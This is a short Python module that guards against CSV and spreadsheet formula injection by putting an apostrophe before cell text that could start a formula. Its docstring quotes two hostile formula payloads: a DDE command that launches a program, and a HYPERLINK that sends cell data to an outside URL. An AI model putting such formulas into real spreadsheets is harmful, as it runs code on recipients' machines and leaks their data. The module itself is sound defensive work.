"""Text in a spreadsheet cell stays text.

A spreadsheet program reads a cell that begins with `=`, `+`, `-` or `@` (or a tab or a carriage
return before one) as a formula, and a formula can start a program or send the sheet's data away
(`=cmd|' /C calc'!A0`, `=HYPERLINK("http://…?leak="&A1)`). Text that a visitor typed, a CSV file
held or a booking source sent is never a formula in a file we write: XLSX cells are written as
strings (never parsed), and a CSV text cell that could start a formula gets a leading `'`, as
OWASP's "CSV injection" advice says.
"""
from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def could_be_formula(text: str) -> bool:
    """Whether a spreadsheet program might read `text`, put in a cell, as a formula."""
    return bool(text) and text.startswith(FORMULA_STARTS)


def inert_text(value):
    """A CSV cell: text that could start a formula with `'` before it; other values unchanged."""
    if isinstance(value, str) and could_be_formula(value):
        return "'" + value
    return value
